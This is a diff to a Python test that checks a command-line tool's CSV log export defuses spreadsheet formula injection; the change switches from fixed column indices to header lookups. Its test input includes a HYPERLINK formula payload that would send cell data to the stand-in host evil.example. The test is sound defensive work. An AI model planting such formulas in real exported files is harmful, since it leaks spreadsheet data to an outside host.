@@ -205,9 +205,10 @@ def test_log_csv_defuses_formulas(cli: Cli) -> None:
     cli.ok("note", "1.1", '=HYPERLINK("http://evil.example/?"&A1,"click")', user="=1+1")
     cli.ok("note", "1.2", "@SUM(1)", user="-2")
     rows = list(csv.reader(io.StringIO(cli.ok("log", "--format", "csv").stdout)))
-    notes = [row for row in rows if row[4] == "note"]
-    assert [row[2] for row in notes] == ["'=1+1", "'-2"]
-    assert [row[7] for row in notes] == [
+    column = rows[0].index
+    notes = [row for row in rows if row[column("action")] == "note"]
+    assert [row[column("actor")] for row in notes] == ["'=1+1", "'-2"]
+    assert [row[column("new")] for row in notes] == [
         '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
         "'@SUM(1)",
     ]
